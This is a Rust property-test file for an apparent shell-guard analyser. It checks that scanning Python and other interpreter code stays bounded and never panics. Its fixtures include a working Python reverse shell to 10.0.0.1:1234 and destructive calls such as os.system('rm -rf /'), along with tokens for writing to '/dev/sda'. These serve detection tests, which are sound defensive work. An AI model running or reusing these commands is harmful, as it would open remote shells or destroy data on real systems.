//! Interpreter analysis never panics and stays within its time bound: generated Python (random
//! token soup, every prefix of real scripts, pathological alias chains and nesting), real-world
//! snippets, and random text for the perl/ruby/node/php/lua/awk/sed scanners.

use guarded_sh::analysis::analyse;
use guarded_sh::parse::Limits;
use guarded_sh::signals::detect;
use proptest::prelude::*;
use std::time::{Duration, Instant};

/// Generous for a debug build on a loaded 2-core machine; release is far faster (see the bench).
const BOUND: Duration = Duration::from_secs(3);

/// Runs a command through analysis and detection; panics (failing the test) when over `BOUND`.
fn run(command: &str) -> Vec<&'static str> {
    let started = Instant::now();
    let analysis = analyse(command, &Limits::default());
    let ids: Vec<&'static str> = detect(&analysis).iter().map(|s| s.id()).collect();
    let took = started.elapsed();
    assert!(took < BOUND, "{took:?} for {} bytes", command.len());
    ids
}

/// A Python program as a quoted heredoc (no shell quoting to get in the way).
fn heredoc(interpreter: &str, code: &str) -> String {
    format!("{interpreter} <<'PYEOF'\n{code}\nPYEOF\n")
}

const REAL_WORLD: &[&str] = &[
    r#"#!/usr/bin/env python
"""Django's command-line utility for administrative tasks."""
import os
import sys


def main():
    """Run administrative tasks."""
    os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings')
    try:
        from django.core.management import execute_from_command_line
    except ImportError as exc:
        raise ImportError("Couldn't import Django.") from exc
    execute_from_command_line(sys.argv)


if __name__ == '__main__':
    main()
"#,
    r#"from setuptools import setup, find_packages
import pathlib
here = pathlib.Path(__file__).parent.resolve()
long_description = (here / "README.md").read_text(encoding="utf-8")
setup(name="sample", version="2.0.0", packages=find_packages(where="src"),
      python_requires=">=3.7, <4", install_requires=["peppercorn"],
      extras_require={"dev": ["check-manifest"], "test": ["coverage"]},
      entry_points={"console_scripts": ["sample=sample:main"]})
"#,
    r#"import argparse, logging, shutil, subprocess, sys, tempfile
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger(__name__)

@dataclass
class Build:
    root: Path
    targets: list[str] = field(default_factory=list)

    def clean(self) -> None:
        out = self.root / "build"
        if out.exists():
            shutil.rmtree(out)

    def run(self) -> int:
        for t in self.targets:
            if (rc := subprocess.call(["make", "-C", str(self.root), t])) != 0:
                log.error(f"target {t!r} failed with {rc}")
                return rc
        return 0

def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser()
    p.add_argument("root", type=Path)
    p.add_argument("targets", nargs="*")
    a = p.parse_args(argv)
    b = Build(a.root, a.targets)
    match a.targets:
        case []:
            print("nothing to do")
        case [only]:
            print(f"building {only}")
        case _:
            print("building", *a.targets)
    with tempfile.TemporaryDirectory() as tmp:
        log.info("scratch in %s", tmp)
    return b.run()

if __name__ == "__main__":
    sys.exit(main())
"#,
    r#"import requests, json
resp = requests.get("https://api.github.com/repos/rust-lang/rust", timeout=10)
resp.raise_for_status()
print(json.dumps(resp.json()["stargazers_count"]))
"#,
    r#"import socket,subprocess,os
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("10.0.0.1",1234))
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
p=subprocess.call(["/bin/sh","-i"])
"#,
    r#"async def handler(reader, writer):
    data = await reader.read(100)
    message = data.decode()
    writer.write(data)
    await writer.drain()
    writer.close()

class Point[T]:
    def __init__(self, x: T, y: T) -> None:
        self.x, self.y = x, y

type Pair = tuple[int, int]
values = [y for x in range(10) if (y := x * x) > 10]
print(f"{values=} {len(values):>{4}} {'nested ' + f'{1+1}'}")
try:
    pass
except* (ValueError, TypeError) as eg:
    print(eg.exceptions)
"#,
];

#[test]
fn real_world_scripts_and_every_prefix() {
    for code in REAL_WORLD {
        let ids = run(&heredoc("python3", code));
        assert!(!ids.contains(&"ANALYSIS_TIMEOUT"), "{ids:?}");
        // Every prefix: a truncated script is a parse error, never a panic.
        let mut cut = 0;
        while cut < code.len() {
            if code.is_char_boundary(cut) {
                run(&heredoc("python3", &code[..cut]));
            }
            cut += 7;
        }
    }
    let reverse = run(&heredoc("python3", REAL_WORLD[4]));
    assert!(reverse.contains(&"SCRIPTED_REVERSE_SHELL"), "{reverse:?}");
    let benign = run(&heredoc("python3", REAL_WORLD[2]));
    assert!(!benign.contains(&"PYTHON_RMTREE_SYSTEM_PATH"), "{benign:?}");
    assert!(benign.contains(&"PYTHON_RMTREE_DYNAMIC"), "{benign:?}");
}

/// `a0` … `a199`, each alias doubling the candidate values of the one before.
fn alias_chain() -> String {
    let mut chain = String::from("import os\na0 = 'x'\n");
    for i in 1..200 {
        let p = i - 1;
        chain.push_str(&format!("a{i} = a{p} + a{p} if c else a{p}\n"));
    }
    chain
}

#[test]
fn pathological_python_stays_bounded() {
    let mut cases = Vec::new();
    let mut chain = alias_chain();
    chain.push_str("os.system(a199)\nos.system('rm -rf /')\n");
    cases.push(chain);
    // Mutual recursion and self reference.
    cases.push("import os\na = b\nb = a\nc = c + c\nos.system(a + c)\n".into());
    // Deep nesting.
    cases.push(format!("x = {}1{}\n", "(".repeat(3000), ")".repeat(3000)));
    cases.push(format!("x = {}\n", "[".repeat(3000)));
    cases.push(format!(
        "print({})\n",
        "f'{".repeat(200) + &"}'".repeat(200)
    ));
    // Many calls, many bindings.
    cases.push(
        "import os\ncmd = 'ls'\n".to_string() + &"cmd = cmd + 'x'\nos.system(cmd)\n".repeat(2000),
    );
    cases.push("exec('exec(\"exec(\\'import os\\')\")')\n".repeat(500));
    for code in &cases {
        // `run` asserts the time bound; the signals vary.
        run(&heredoc("python3", code));
    }
    let chain = run(&heredoc("python3", &cases[0]));
    assert!(chain.contains(&"DELETE_ROOT_PATH"), "{chain:?}");
}

#[test]
fn an_exhausted_evaluation_budget_fails_closed() {
    let mut code = alias_chain();
    code.push_str(&"os.system(a199)\n".repeat(150));
    let ids = run(&heredoc("python3", &code));
    assert!(ids.contains(&"SYNTAX_TOO_LARGE"), "{ids:?}");
}

#[test]
fn oversized_inline_code_is_denied_not_parsed() {
    let code = format!("import os\n{}os.system('ls')\n", "# pad\n".repeat(20_000));
    let ids = run(&heredoc("python3", &code));
    assert!(ids.contains(&"INTERPRETER_CODE_TOO_LARGE"), "{ids:?}");
}

const TOKENS: &[&str] = &[
    "import",
    "os",
    "subprocess",
    "from",
    "as",
    "def",
    "class",
    "lambda",
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    ",",
    ":",
    "=",
    ":=",
    "+",
    ".",
    "\n",
    "    ",
    "'",
    "\"",
    "f'",
    "r'",
    "\"\"\"",
    "'rm -rf /'",
    "system",
    "run",
    "shell=True",
    "open",
    "'/dev/sda'",
    "'wb'",
    "eval",
    "exec",
    "__import__",
    "match",
    "case",
    "if",
    "else",
    "for",
    "in",
    "*",
    "**",
    "\\",
    "#",
    "{x}",
    "0",
    "await",
    "async",
    "with",
    "getattr",
    "Path",
    "/",
    "shutil.rmtree",
    "os.system",
    "@",
];

fn soup() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(TOKENS), 0..120).prop_map(|t| t.join(" "))
}

const LANGUAGES: &[&str] = &[
    "perl -e", "ruby -e", "node -e", "php -r", "lua -e", "awk", "sed -e",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn python_token_soup_never_panics(code in soup()) {
        run(&heredoc("python3", &code));
    }

    #[test]
    fn python_arbitrary_text_never_panics(code in "\\PC{0,400}") {
        run(&heredoc("python3", &code));
    }

    #[test]
    fn other_languages_never_panic(
        language in prop::sample::select(LANGUAGES),
        code in "[ -~\\n]{0,300}",
    ) {
        // Through a heredoc for the `-e` forms' languages (and stdin), and inline.
        let base = language.split(' ').next().unwrap_or("perl");
        run(&format!("{base} <<'X'\n{code}\nX\n"));
        let quoted = code.replace('\'', "'\\''");
        run(&format!("{language} '{quoted}'"));
    }
}
